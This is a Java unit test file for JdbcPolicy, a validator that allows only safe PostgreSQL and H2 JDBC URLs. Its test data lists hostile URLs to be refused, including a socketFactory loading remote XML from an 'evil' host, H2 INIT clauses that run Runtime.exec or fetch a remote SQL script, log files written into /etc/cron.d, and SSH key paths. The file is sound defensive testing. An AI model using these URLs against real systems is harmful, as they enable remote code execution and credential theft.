package io.datasurface.model.credential;

import static io.datasurface.model.credential.JdbcPolicy.POSTGRES_AND_H2;
import static io.datasurface.model.credential.JdbcPolicy.POSTGRES_ONLY;
import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Which JDBC URLs may be opened: PostgreSQL without dangerous parameters; H2 only when enabled, without INIT. */
class JdbcPolicyTest {

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {
        "jdbc:postgresql://db.example.com:5432/crm",
        "jdbc:postgresql://db/crm",
        "jdbc:postgresql://10.0.0.7:6432/crm?sslmode=verify-full&ApplicationName=x",
        "jdbc:postgresql://[::1]:5432,db-2:5433/crm?targetServerType=primary&loadBalanceHosts=true",
        "jdbc:postgresql://db/crm?user=reader&password=s3cret&connectTimeout=5&",
    })
    void postgresUrlsWithHarmlessParametersAreAllowedEverywhere(String url) {
        assertThat(POSTGRES_ONLY.refusal(url)).isEmpty();
        assertThat(POSTGRES_AND_H2.refusal(url)).isEmpty();
    }

    @ParameterizedTest(name = "{0} ({1})")
    @DisplayName("PostgreSQL parameters that load classes, touch files or move the connection are refused")
    @CsvSource(delimiter = '|', quoteCharacter = '"', textBlock = """
            jdbc:postgresql://db/crm?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://evil/x.xml | 'socketFactory', 'socketFactoryArg'
            jdbc:postgresql://db/crm?sslfactory=com.evil.Factory                  | 'sslfactory'
            jdbc:postgresql://db/crm?loggerLevel=TRACE&loggerFile=/etc/cron.d/x   | 'loggerLevel', 'loggerFile'
            jdbc:postgresql://db/crm?authenticationPluginClassName=com.evil.P     | 'authenticationPluginClassName'
            jdbc:postgresql://db/crm?sslkey=/home/ds/.ssh/id_rsa                  | 'sslkey'
            jdbc:postgresql://allowed/crm?host=evil.example.com                   | 'host'
            jdbc:postgresql://allowed/crm?PGHOST=evil&PGPORT=1                    | 'PGHOST', 'PGPORT'
            jdbc:postgresql://allowed/crm?service=other                           | 'service'
            jdbc:postgresql://allowed/crm?socket%46actory=x                       | 'socket%46actory'
            """)
    void dangerousPostgresParametersAreRefused(String url, String keys) {
        assertThat(POSTGRES_AND_H2.refusal(url)).hasValueSatisfying(reason ->
                assertThat(reason).startsWith("PostgreSQL URL parameter(s) " + keys + " are not allowed")
                        .contains("allowed: applicationname, channelbinding"));
        assertThat(POSTGRES_ONLY.refusal(url)).isPresent();
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"jdbc:postgresql:crm", "jdbc:postgresql://evil.com@good/crm", "jdbc:postgresql://h/a/b",
        "jdbc:postgresql://good/crm?x=1\nsocketFactory=y", "jdbc:postgresql://h:5432/cr m", "JDBC:POSTGRESQL://h/db"})
    void postgresUrlsOfAnotherFormAreRefused(String url) {
        assertThat(POSTGRES_AND_H2.refusal(url)).isPresent();
    }

    @Test
    void h2IsRefusedUnlessEnabled() {
        assertThat(POSTGRES_ONLY.refusal("jdbc:h2:mem:crm")).hasValue("H2 databases are read only by "
                + "'datasurface run-job --allow-h2' (tests and local trials); use a PostgreSQL source "
                + "(jdbc:postgresql://HOST:PORT/DATABASE)");
        assertThat(POSTGRES_AND_H2.refusal("jdbc:h2:mem:crm;DB_CLOSE_DELAY=-1")).isEmpty();
        assertThat(POSTGRES_AND_H2.refusal("jdbc:h2:file:/var/data/crm;MODE=PostgreSQL")).isEmpty();
    }

    @ParameterizedTest(name = "{0}")
    @DisplayName("H2 settings that run code or open servers are refused even where H2 is enabled")
    @CsvSource(delimiter = '|', quoteCharacter = '"', textBlock = """
            jdbc:h2:mem:x;INIT=CREATE ALIAS X AS 'void x() throws Exception { Runtime.getRuntime().exec(x); }'  | 'INIT'
            jdbc:h2:mem:x;init=RUNSCRIPT FROM 'http://evil/x.sql'                          | 'init'
            jdbc:h2:mem:x;DB_CLOSE_DELAY=-1\\;INIT=RUNSCRIPT FROM 'x'                     | 'INIT'
            jdbc:h2:file:/tmp/x;AUTO_SERVER=TRUE                                          | 'AUTO_SERVER'
            jdbc:h2:file:/tmp/x;JAVA_OBJECT_SERIALIZER=com.evil.S                          | 'JAVA_OBJECT_SERIALIZER'
            jdbc:h2:file:/tmp/x;DATABASE_EVENT_LISTENER=com.evil.L                         | 'DATABASE_EVENT_LISTENER'
            jdbc:h2:mem:x;TRACE_LEVEL_FILE=3                                               | 'TRACE_LEVEL_FILE'
            jdbc:h2:mem:x;PASSWORD=hunter2                                                 | 'PASSWORD'
            """)
    void dangerousH2SettingsAreRefused(String url, String keys) {
        assertThat(POSTGRES_AND_H2.refusal(url)).hasValueSatisfying(reason ->
                assertThat(reason).startsWith("H2 setting(s) " + keys).contains(" are not allowed (INIT runs SQL")
                        .doesNotContain("hunter2"));
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"jdbc:h2:tcp://evil:9092/x", "jdbc:h2:ssl://evil/x", "jdbc:h2:zip:/x.zip!/db",
        "jdbc:h2:~/crm", "jdbc:h2:file:", "jdbc:h2:mem:../x"})
    void h2UrlsOtherThanMemoryAndFileAreRefused(String url) {
        assertThat(POSTGRES_AND_H2.refusal(url)).isPresent();
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', quoteCharacter = '"', textBlock = """
            jdbc:sqlite:/data/legacy.db                         | 'jdbc:sqlite:'
            jdbc:mysql://root:hunter2@db/x?allowLoadLocalInfile=true | 'jdbc:mysql:'
            jdbc:postgres://db/crm                              | 'jdbc:postgres:'
            jdbc:derby:memory:x;create=true                     | 'jdbc:derby:'
            """)
    void otherDriversAreRefusedWithoutRepeatingTheUrl(String url, String scheme) {
        assertThat(POSTGRES_AND_H2.refusal(url)).hasValueSatisfying(reason -> assertThat(reason)
                .startsWith(scheme + " URLs are not supported: no JDBC driver that DataSurface allows understands "
                        + "this URL; write jdbc:postgresql://HOST:PORT/DATABASE").doesNotContain("hunter2"));
    }

    @Test
    void hostsOfAPostgresUrl() {
        assertThat(JdbcPolicy.postgresHosts("jdbc:postgresql://DB-1.example.com:5432,[::1]:5433,db3/crm?ssl=true"))
                .containsExactly("db-1.example.com", "[::1]", "db3");
        assertThat(JdbcPolicy.postgresHosts("jdbc:postgresql://allowed/crm?host=evil")).isEmpty();
        assertThat(JdbcPolicy.postgresHosts("jdbc:h2:mem:x")).isEmpty();
    }

    @Test
    void hostAndDatabaseNames() {
        assertThat(JdbcPolicy.isHost("crm-db.internal")).isTrue();
        assertThat(JdbcPolicy.isHost("[2001:db8::1]")).isTrue();
        assertThat(JdbcPolicy.isHost("evil/x?socketFactory=y#")).isFalse();
        assertThat(JdbcPolicy.isHost("a@b")).isFalse();
        assertThat(JdbcPolicy.isDatabase("crm_2024")).isTrue();
        assertThat(JdbcPolicy.isDatabase("crm?sslfactory=x")).isFalse();
    }
}
